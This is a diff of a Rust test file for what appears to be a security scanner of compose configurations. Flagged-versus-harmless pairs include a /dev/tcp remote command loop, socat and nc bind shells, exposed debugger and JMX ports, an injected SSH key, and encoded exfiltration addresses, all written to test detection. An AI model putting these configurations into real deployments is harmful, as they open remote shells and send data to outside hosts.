@@ -324,95 +324,97 @@ fn a_number_is_harmless_only_where_every_word_of_its_name_is() {
     }
 }
 
+const WAYS_IN: &[Row] = &[
+    (
+        "DP-CMP-007 critical",
+        "services.app.command",
+        &[],
+        app!("command: [bash, -c, 'exec 3<>/dev/tcp/ctl.acme.io/443; while read -ru3 l; do $$l; done']"),
+        app!("command: [bash, -c, 'while read -r l; do echo got; done < /app/list']"),
+    ),
+    (
+        "DP-CMP-007 critical",
+        "services.app.command",
+        &[],
+        app!("command: [socat, 'TCP-LISTEN:9000,fork', 'EXEC:/bin/ash']"),
+        app!("command: [socat, 'TCP-LISTEN:9000,fork', 'TCP:web:8080']\n  web:\n    SERVICE"),
+    ),
+    (
+        "DP-CMP-007 critical",
+        "services.app.command",
+        &[],
+        app!("command: [nc, -lke, /bin/sh, '9000']"),
+        app!("command: [nc, -z, localhost, '9000']"),
+    ),
+    (
+        "DP-CMP-007 high",
+        "services.app.command",
+        &[],
+        app!("command: [socat, 'TCP-LISTEN:9000,fork', 'UNIX-CONNECT:/run/dstack.sock']"),
+        "",
+    ),
+    (
+        "DP-CMP-007 high",
+        "services.app.command",
+        &[],
+        app!("command: [python, -m, http.server, '8000', --directory, /]"),
+        app!("command: [python, -m, http.server, '8000', --directory, /app/public]"),
+    ),
+    (
+        "DP-CMP-007 high",
+        "services.app.command",
+        &[],
+        app!("command: [node, '--inspect=0.0.0.0:9229', /app/main.js]"),
+        app!("command: [node, '--max-old-space-size=2048', /app/main.js]"),
+    ),
+    (
+        "DP-CMP-007 high",
+        "services.app.command",
+        &[],
+        app!("command: [dlv, exec, /app/serve, --headless, '--listen=:2345']"),
+        app!("command: [/app/serve, '--listen=:2345']"),
+    ),
+    (
+        "DP-CMP-007 high",
+        "environment.JAVA_OPTS",
+        &[],
+        app!("environment: {JAVA_OPTS: '-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005'}"),
+        app!("environment: {JAVA_OPTS: '-Xmx1g -XX:+UseG1GC'}"),
+    ),
+    (
+        "DP-CMP-007 high",
+        "environment.JVM_FLAGS",
+        &[],
+        app!(
+            "environment: {JVM_FLAGS: '-Dcom.sun.management.jmxremote.port=1 -Dcom.sun.management.jmxremote.authenticate=false'}"
+        ),
+        app!("environment: {JVM_FLAGS: '-Dserver.port=9010'}"),
+    ),
+    (
+        "DP-CMP-007 high",
+        "configs.0.target",
+        &[],
+        app!(
+            "configs: [{source: k, target: /home/app/.ssh/authorized_keys}]\nconfigs: {k: {content: 'ssh-ed25519 AAAA'}}"
+        ),
+        app!("configs: [{source: k, target: /etc/motd}]\nconfigs: {k: {content: hello}}"),
+    ),
+    (
+        "DP-CMP-007 high",
+        "configs.k.content",
+        &[],
+        app!(
+            "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin 0.0.0.0:2019 }'}}"
+        ),
+        app!(
+            "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin off }'}}"
+        ),
+    ),
+];
+
 #[test]
 fn ways_in_are_known_by_what_is_done() {
-    all(&[
-        (
-            "DP-CMP-007 critical",
-            "services.app.command",
-            &[],
-            app!("command: [bash, -c, 'exec 3<>/dev/tcp/ctl.acme.io/443; while read -ru3 l; do $$l; done']"),
-            app!("command: [bash, -c, 'while read -r l; do echo got; done < /app/list']"),
-        ),
-        (
-            "DP-CMP-007 critical",
-            "services.app.command",
-            &[],
-            app!("command: [socat, 'TCP-LISTEN:9000,fork', 'EXEC:/bin/ash']"),
-            app!("command: [socat, 'TCP-LISTEN:9000,fork', 'TCP:web:8080']\n  web:\n    SERVICE"),
-        ),
-        (
-            "DP-CMP-007 critical",
-            "services.app.command",
-            &[],
-            app!("command: [nc, -lke, /bin/sh, '9000']"),
-            app!("command: [nc, -z, localhost, '9000']"),
-        ),
-        (
-            "DP-CMP-007 high",
-            "services.app.command",
-            &[],
-            app!("command: [socat, 'TCP-LISTEN:9000,fork', 'UNIX-CONNECT:/run/dstack.sock']"),
-            "",
-        ),
-        (
-            "DP-CMP-007 high",
-            "services.app.command",
-            &[],
-            app!("command: [python, -m, http.server, '8000', --directory, /]"),
-            app!("command: [python, -m, http.server, '8000', --directory, /app/public]"),
-        ),
-        (
-            "DP-CMP-007 high",
-            "services.app.command",
-            &[],
-            app!("command: [node, '--inspect=0.0.0.0:9229', /app/main.js]"),
-            app!("command: [node, '--max-old-space-size=2048', /app/main.js]"),
-        ),
-        (
-            "DP-CMP-007 high",
-            "services.app.command",
-            &[],
-            app!("command: [dlv, exec, /app/serve, --headless, '--listen=:2345']"),
-            app!("command: [/app/serve, '--listen=:2345']"),
-        ),
-        (
-            "DP-CMP-007 high",
-            "environment.JAVA_OPTS",
-            &[],
-            app!("environment: {JAVA_OPTS: '-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005'}"),
-            app!("environment: {JAVA_OPTS: '-Xmx1g -XX:+UseG1GC'}"),
-        ),
-        (
-            "DP-CMP-007 high",
-            "environment.JVM_FLAGS",
-            &[],
-            app!(
-                "environment: {JVM_FLAGS: '-Dcom.sun.management.jmxremote.port=1 -Dcom.sun.management.jmxremote.authenticate=false'}"
-            ),
-            app!("environment: {JVM_FLAGS: '-Dserver.port=9010'}"),
-        ),
-        (
-            "DP-CMP-007 high",
-            "configs.0.target",
-            &[],
-            app!(
-                "configs: [{source: k, target: /home/app/.ssh/authorized_keys}]\nconfigs: {k: {content: 'ssh-ed25519 AAAA'}}"
-            ),
-            app!("configs: [{source: k, target: /etc/motd}]\nconfigs: {k: {content: hello}}"),
-        ),
-        (
-            "DP-CMP-007 high",
-            "configs.k.content",
-            &[],
-            app!(
-                "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin 0.0.0.0:2019 }'}}"
-            ),
-            app!(
-                "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin off }'}}"
-            ),
-        ),
-    ]);
+    all(WAYS_IN);
 }
 
 #[test]
@@ -526,106 +528,108 @@ fn code_and_trust_out_of_a_volume_is_said_and_gravest_where_another_writes() {
     ]);
 }
 
+const ADDRESSES: &[Row] = &[
+    (
+        "DP-URL-002",
+        "203.0.113.5",
+        &[],
+        app!("command: [redis-server, --replicaof, 203.0.113.5, '6379']"),
+        app!("command: [redis-server, --maxmemory, '203113']"),
+    ),
+    (
+        "DP-URL-002",
+        "acme:users",
+        &[],
+        app!("command: [rclone, sync, /data, 'acme:users']"),
+        app!("command: [rclone, check, /data, /copy]"),
+    ),
+    (
+        "DP-URL-002",
+        "collect.acme.io",
+        &[],
+        app!("command: [nc, collect.acme.io, '99']"),
+        app!("command: [app, main.py, --domain=app.acme.io]"),
+    ),
+    (
+        "DP-URL-002",
+        "environment.NEXT",
+        &[],
+        app!("environment: {NEXT: 'https%3A%2F%2Fin.acme.io%2Fv1'}"),
+        app!("environment: {NEXT: 'http%3A%2F%2Flocalhost%2Fv1'}"),
+    ),
+    (
+        "DP-URL-002",
+        "environment.ROUTE",
+        &[],
+        app!("environment: {ROUTE: 'aHR0cHM6Ly9pbi5hY21lLmlvL3YxL2luZ2VzdA=='}"),
+        app!("environment: {ROUTE: 'aHR0cDovL2xvY2FsaG9zdDo4MDgwL3YxLw=='}"),
+    ),
+    (
+        "DP-URL-002",
+        "environment.X",
+        &[],
+        app!("environment: {X: '{\"h\":\"in.acme.io\"}'}"),
+        app!("environment: {X: '{\"h\":\"main.py\"}'}"),
+    ),
+    (
+        "DP-URL-002",
+        "environment.X",
+        &[],
+        app!("environment: {X: '//in.acme.io/v1'}"),
+        app!("environment: {X: '//localhost/v1'}"),
+    ),
+    (
+        "DP-URL-002",
+        "environment.X",
+        &[],
+        app!("environment: {X: 'http://localhost/ in.acme.io:443'}"),
+        app!("environment: {X: 'http://localhost/ 1:443'}"),
+    ),
+    (
+        "DP-URL-002",
+        "environment.X",
+        &[],
+        app!("environment: {X: '10.514:80'}"),
+        app!("environment: {X: '10.5:80'}"),
+    ),
+    (
+        "DP-URL-002",
+        "configs.c.content",
+        &[],
+        app!(
+            "configs: [{source: c, target: /fb.conf}]\nconfigs: {c: {content: \"[OUTPUT]\\n    Name forward\\n    Host 203.0.113.77\\n    Port 24224\\n\"}}"
+        ),
+        app!(
+            "configs: [{source: c, target: /fb.conf}]\nconfigs: {c: {content: \"[OUTPUT]\\n    Name file\\n    Path /var/log/all\\n\"}}"
+        ),
+    ),
+    (
+        "DP-URL-009",
+        "configs.c.content",
+        &[],
+        app!(
+            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'dynamic_resources: {ads_config: {api_type: GRPC}}'}}"
+        ),
+        app!(
+            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'static_resources: {clusters: []}'}}"
+        ),
+    ),
+    (
+        "DP-URL-008",
+        "configs.c.content",
+        &[],
+        app!(
+            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'tls: {insecure_skip_verify: true}'}}"
+        ),
+        app!(
+            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'tls: {insecure_skip_verify: false}'}}"
+        ),
+    ),
+];
+
 #[test]
 fn an_address_is_one_however_it_is_written() {
-    all(&[
-        (
-            "DP-URL-002",
-            "203.0.113.5",
-            &[],
-            app!("command: [redis-server, --replicaof, 203.0.113.5, '6379']"),
-            app!("command: [redis-server, --maxmemory, '203113']"),
-        ),
-        (
-            "DP-URL-002",
-            "acme:users",
-            &[],
-            app!("command: [rclone, sync, /data, 'acme:users']"),
-            app!("command: [rclone, check, /data, /copy]"),
-        ),
-        (
-            "DP-URL-002",
-            "collect.acme.io",
-            &[],
-            app!("command: [nc, collect.acme.io, '99']"),
-            app!("command: [app, main.py, --domain=app.acme.io]"),
-        ),
-        (
-            "DP-URL-002",
-            "environment.NEXT",
-            &[],
-            app!("environment: {NEXT: 'https%3A%2F%2Fin.acme.io%2Fv1'}"),
-            app!("environment: {NEXT: 'http%3A%2F%2Flocalhost%2Fv1'}"),
-        ),
-        (
-            "DP-URL-002",
-            "environment.ROUTE",
-            &[],
-            app!("environment: {ROUTE: 'aHR0cHM6Ly9pbi5hY21lLmlvL3YxL2luZ2VzdA=='}"),
-            app!("environment: {ROUTE: 'aHR0cDovL2xvY2FsaG9zdDo4MDgwL3YxLw=='}"),
-        ),
-        (
-            "DP-URL-002",
-            "environment.X",
-            &[],
-            app!("environment: {X: '{\"h\":\"in.acme.io\"}'}"),
-            app!("environment: {X: '{\"h\":\"main.py\"}'}"),
-        ),
-        (
-            "DP-URL-002",
-            "environment.X",
-            &[],
-            app!("environment: {X: '//in.acme.io/v1'}"),
-            app!("environment: {X: '//localhost/v1'}"),
-        ),
-        (
-            "DP-URL-002",
-            "environment.X",
-            &[],
-            app!("environment: {X: 'http://localhost/ in.acme.io:443'}"),
-            app!("environment: {X: 'http://localhost/ 1:443'}"),
-        ),
-        (
-            "DP-URL-002",
-            "environment.X",
-            &[],
-            app!("environment: {X: '10.514:80'}"),
-            app!("environment: {X: '10.5:80'}"),
-        ),
-        (
-            "DP-URL-002",
-            "configs.c.content",
-            &[],
-            app!(
-                "configs: [{source: c, target: /fb.conf}]\nconfigs: {c: {content: \"[OUTPUT]\\n    Name forward\\n    Host 203.0.113.77\\n    Port 24224\\n\"}}"
-            ),
-            app!(
-                "configs: [{source: c, target: /fb.conf}]\nconfigs: {c: {content: \"[OUTPUT]\\n    Name file\\n    Path /var/log/all\\n\"}}"
-            ),
-        ),
-        (
-            "DP-URL-009",
-            "configs.c.content",
-            &[],
-            app!(
-                "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'dynamic_resources: {ads_config: {api_type: GRPC}}'}}"
-            ),
-            app!(
-                "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'static_resources: {clusters: []}'}}"
-            ),
-        ),
-        (
-            "DP-URL-008",
-            "configs.c.content",
-            &[],
-            app!(
-                "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'tls: {insecure_skip_verify: true}'}}"
-            ),
-            app!(
-                "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'tls: {insecure_skip_verify: false}'}}"
-            ),
-        ),
-    ]);
+    all(ADDRESSES);
 }
 
 #[test]
